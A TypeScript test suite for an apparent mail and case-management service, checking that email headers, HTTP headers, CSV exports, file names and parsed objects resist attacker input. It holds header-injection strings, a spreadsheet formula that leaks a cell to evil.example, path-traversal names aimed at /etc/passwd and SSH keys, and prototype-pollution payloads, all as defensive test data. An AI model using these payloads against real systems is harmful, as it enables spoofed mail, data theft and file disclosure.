// What a person, a form, a member of staff or the config writes stays where it was written: in no header, no formula, no path, no prototype.
import PostalMime from 'postal-mime';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { keyOfPaper } from '../../functions/adapters/letter-papers.ts';
import { receiveMail } from '../../functions/receive-mail.ts';
import { sendLetters } from '../../functions/send-letters.ts';
import { delivered, rawMail, rawMailWith } from '../a-mail.ts';
import { noticeCalls, staffCalls } from '../a-staff-call.ts';
import { exampleDesk } from '../example-desk.ts';
import { aBrowser } from '../public/a-visit.ts';
import { type DeskInMemory, deskInMemory } from '../simulator/desk-in-memory.ts';

const bombs = [
  'x\r\nBcc: victim@example.com',
  'x\nBcc: victim@example.com',
  'x\rBcc: victim@example.com',
  'x\r\n\r\n<script>alert(1)</script>',
  'x\u2028Bcc: victim@example.com',
  'x\u0085Bcc: victim@example.com',
  'x%0d%0aBcc: victim@example.com',
  '=?utf-8?Q?x=0D=0ABcc:_victim@example.com?=',
  'x\u0000Bcc: victim@example.com',
  '", victim@example.com, "',
  'x>, <victim@example.com',
];

/** What went out: each to one recipient, with the fields of our letters and no others. */
async function mustBeClean(desk: DeskInMemory): Promise<void> {
  for (const { SK, PK } of [...desk.aws.rows.values()].filter(({ SK }) => String(SK).startsWith('LETTER#')))
    await sendLetters(desk.world)({ PK: String(PK), SK: String(SK) });
  for (const { to, raw } of desk.aws.sent) {
    expect(to).toHaveLength(1);
    expect(to[0]).not.toContain('victim');
    const head = Buffer.from(raw).toString('latin1').split('\r\n\r\n')[0] ?? '';
    const names = head
      .split(/\r\n|\r|\n/)
      .filter((line) => !/^[ \t]/.test(line))
      .map((line) => line.replace(/:.*/s, '').toLowerCase());
    for (const name of names)
      expect(name).toMatch(
        /^(from|to|subject|date|message-id|in-reply-to|references|mime-version|content-(type|transfer-encoding)|auto-submitted|reply-to|x-[a-z-]+|list-[a-z-]+|precedence)$/,
      );
    const parsed = await PostalMime.parse(raw);
    expect(parsed.to).toHaveLength(1);
    expect(parsed.cc ?? []).toEqual([]);
    expect(parsed.bcc ?? []).toEqual([]);
    expect(parsed.attachments).toEqual([]);
  }
}

describe('no header of a letter comes from', () => {
  test.each(bombs)('a mail: %j', async (bomb) => {
    const desk = deskInMemory();
    const folded = bomb.replace(/[\r\n]+/g, ' ');
    const encoded = `=?utf-8?B?${Buffer.from(bomb).toString('base64')}?=`;
    const raw = rawMail({
      from: `${encoded} <ada@example.net>`,
      subject: encoded,
      messageId: `<${folded}@example.net>`,
      headers: [`Reply-To: ${encoded} <ada2@example.net>`, `References: <${folded}> ${encoded}`],
    });
    await receiveMail(desk.world)(delivered(desk, raw));
    const [reference = ''] = [...desk.aws.rows.values()].flatMap(({ SK, reference }) =>
      SK === 'CASE' ? [String(reference)] : [],
    );
    const text = `Dear you, ${bomb}`;
    const answer = await staffCalls(desk)('POST /v1/cases/{reference}/messages', {
      path: { reference },
      body: { kind: 'reply', text },
    });
    expect(answer.status).toBe(201);
    await mustBeClean(desk);
    expect(desk.aws.sent.length).toBe(2);
  });

  test.each(bombs)('the form: %j', async (bomb) => {
    const { desk, submit } = aBrowser();
    await submit('other', { name: bomb, address: 'ada@example.net', message: bomb });
    await submit('other', { name: 'Ada', address: `ada@example.net${bomb}`, message: bomb });
    await mustBeClean(desk);
    expect(desk.aws.sent.map(({ to }) => to[0])).toEqual(['ada@example.net']);
  });

  test.each(bombs)('staff: %j', async (bomb) => {
    const desk = deskInMemory();
    const call = staffCalls(desk);
    const asks = [{ queue: 'general', kind: 'access' }];
    const opening = {
      channel: 'phone',
      receivedAt: '2026-03-01',
      asks,
      subject: bomb.slice(0, 100),
      text: bomb,
    };
    await call('POST /v1/cases', {
      body: { ...opening, person: { name: bomb, address: 'ada@example.net' } },
    });
    const hostile = await call('POST /v1/cases', {
      body: { ...opening, person: { name: 'Ada', address: `ada@example.net${bomb}` } },
    });
    expect(hostile.status).toBe(400);
    await mustBeClean(desk);
    expect(desk.aws.sent.length).toBe(1);
  });

  test.each(bombs)('the config: %j', async (bomb) => {
    const desk = deskInMemory({ desk: { ...exampleDesk, organisation: bomb } });
    await receiveMail(desk.world)(delivered(desk, rawMail()));
    await mustBeClean(desk);
    expect(desk.aws.sent.length).toBe(1);
  });
});

describe('no answer over HTTP has a header from', () => {
  test.each(bombs)('an address: %j', async (bomb) => {
    const { visit, desk } = aBrowser();
    const part = encodeURIComponent(bomb);
    const pages = [
      '/',
      `/${part}`,
      `/en/request/${part}`,
      `/en/receipt/${part}`,
      `/en/status/${part}`,
      `/${part}/status/x/file?key=${part}`,
      `/assets/${part}`,
      `/notices/${part}`,
    ];
    for (const page of pages) {
      const { headers } = await visit(page, {
        headers: { 'accept-language': bomb, accept: bomb, 'accept-encoding': bomb },
        follow: false,
      });
      for (const [name, value] of Object.entries(headers))
        expect(`${name}${value}`).not.toMatch(/[\r\n\u0000]|victim/);
    }
    const { headers } = await staffCalls(desk)('GET /v1/export', {
      query: { format: 'csv', from: bomb, cursor: bomb },
      groups: '[officer]',
    });
    for (const [name, value] of Object.entries(headers))
      expect(`${name}${value}`).not.toMatch(/[\r\n\u0000]|victim/);
  });
});

describe('no table for a spreadsheet computes', () => {
  const formula = '=HYPERLINK("https://evil.example?"&A1)';
  const wide = ['＝1+1', '+1', '-1', '@SUM(1)', '\t=1', formula];
  const cells = (csv: string) =>
    [...csv.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/gm)].map(
      ([, quoted, plain = '']) => quoted ?? plain,
    );
  const mustBeText = (csv: string) => {
    expect(csv.length).toBeGreaterThan(20);
    for (const cell of cells(csv)) expect(cell.replace(/^\ufeff/, '')).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
  };
  const officer = { groups: '[officer]' };

  test.each(wide)('what the register of written notice holds: %j', async (text) => {
    const call = staffCalls(deskInMemory());
    const body = { receivedAt: '2026-03-01', name: text, postal: `${text}\n${text}`, residence: 'DE' };
    expect((await call('POST /v1/written-notice', { ...officer, body })).status).toBe(201);
    mustBeText((await call('GET /v1/written-notice', { ...officer, query: { format: 'csv' } })).body);
  });

  test.each(wide)('the proof of a notice: %j', async (text) => {
    const desk = deskInMemory();
    const { aCampaign, aPerson, driveOf } = await import('../a-campaign.ts');
    const reference = await aCampaign(desk, [
      aPerson(1, { name: text, postal: `${text}\n1 Town` }),
      aPerson(2),
    ]);
    await driveOf(desk).run();
    const how = { ...officer, path: { reference } };
    const { body } = await noticeCalls(desk)('GET /v1/notices/{reference}/report.csv', how);
    expect(body).toContain('Person 2');
    mustBeText(body);
  });
});

describe('no name of a file is a path', () => {
  const names = [
    '../../etc/passwd',
    '..\\..\\boot.ini',
    '/etc/passwd',
    'C:\\boot.ini',
    'a\u0000.pdf',
    '%2e%2e%2f',
    '"; filename="x.html',
    'a\u202efdp.exe',
    '~/.ssh/id',
    'x'.repeat(200),
  ];

  test.each(names)('of an attachment: %j', async (name) => {
    const desk = deskInMemory();
    await receiveMail(desk.world)(
      delivered(
        desk,
        rawMailWith({ name: `=?utf-8?B?${Buffer.from(name).toString('base64')}?=`, content: 'x' }),
      ),
    );
    for (const key of desk.aws.objects.keys()) expect(key).toMatch(/^(mail|attachments)\/[\w-]+(\/\d+)?$/);
    const { items } = await desk.world.queues.list({}, '', 1);
    const reference = items[0]?.reference ?? '';
    const id = (await desk.world.cases.read(reference))?.messages[0]?.id ?? '';
    const link = await staffCalls(desk)('GET /v1/cases/{reference}/messages/{id}/attachments/{n}', {
      path: { reference, id, n: '1' },
    });
    const disposition = new URL(link.body.url).searchParams.get('response-content-disposition') ?? '';
    expect(disposition).toMatch(/^attachment; filename="[\w.-]+"$/);
  });

  test.each(names)('of an upload by staff: %j', async (name) => {
    const desk = deskInMemory();
    const call = staffCalls(desk);
    const { upload, fields } = (await call('POST /v1/uploads')).body;
    desk.aws.objects.set(fields.key, Buffer.from('%PDF-1.7'));
    const asks = [{ queue: 'general', kind: 'access' }];
    const opening = { channel: 'post', receivedAt: '2026-03-01', person: { name: 'Ada' }, asks, text: 'x' };
    for (const hostile of [`../${upload}`, `${upload}/../x`, name, ''])
      expect(
        (
          await call('POST /v1/cases', {
            body: { ...opening, attachments: [{ upload: hostile, name: 'x' }] },
          })
        ).status,
      ).toBe(400);
    const opened = await call('POST /v1/cases', { body: { ...opening, attachments: [{ upload, name }] } });
    expect(opened.status).toBe(201);
    const [message] = (await desk.world.cases.read(opened.body.reference))?.messages ?? [];
    expect(message?.attachments[0]?.key).toBe(fields.key);
    expect(message?.attachments[0]?.name).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069/\\]/);
  });

  test.each(['../1', '1/../../mail/x', '..', 'a\nb'])('of a printed batch: %j', (notice) => {
    expect(keyOfPaper({ notice: 'NO-7F3K-9QXM-4', n: 1 }, 'pdf')).toBe('letters/NO-7F3K-9QXM-4/1.pdf');
    return noticeCalls(deskInMemory())('GET /v1/notices/{reference}/letters/{n}/pdf', {
      path: { reference: notice, n: notice },
      groups: '[officer]',
    }).then(({ status }) => expect(status).toBe(400));
  });
});

describe('no input becomes part of every object', () => {
  const polluted = () => Object.keys(Object.prototype).concat(String(Reflect.get({}, 'polluted') ?? ''));
  beforeEach(() => expect(polluted()).toEqual(['']));
  afterEach(() => expect(polluted()).toEqual(['']));

  test.each([
    '{"__proto__":{"polluted":"yes"},"person":"ada@example.net"}',
    '{"constructor":{"prototype":{"polluted":"yes"}},"person":"ada@example.net"}',
    '{"person":{"__proto__":{"polluted":"yes"}}}',
    '{"person":"__proto__"}',
  ])('as JSON: %s', async (body) => {
    expect((await staffCalls(deskInMemory())('POST /v1/search', { body })).status).toBe(400);
  });

  test('as fields of a form or of a query, or as parts of an address', async () => {
    const { visit, stampOf } = aBrowser();
    const stamp = stampOf(await visit('/en/request/other'));
    const form = {
      stamp,
      step: 'send',
      '__proto__[polluted]': 'yes',
      'constructor.prototype.polluted': 'yes',
      __proto__polluted: 'yes',
    };
    await visit('/en/request/other?__proto__[polluted]=yes&__proto__=x&constructor=y', { form });
    for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype']) {
      for (const page of [
        `/${name}`,
        `/en/request/${name}`,
        `/assets/${name}`,
        `/notices/banner/${name}`,
        `/${name}/status`,
      ])
        expect((await visit(page, { follow: false })).status).toBeLessThan(500);
      const { status } = await staffCalls(deskInMemory())('GET /v1/items', {
        query: { queue: name, state: name, [name]: 'x' },
      });
      expect(status).toBe(400);
      expect(
        (
          await noticeCalls(deskInMemory())('GET /v1/notices', {
            query: { state: name },
            groups: '[officer]',
          })
        ).status,
      ).toBe(400);
    }
  });
});
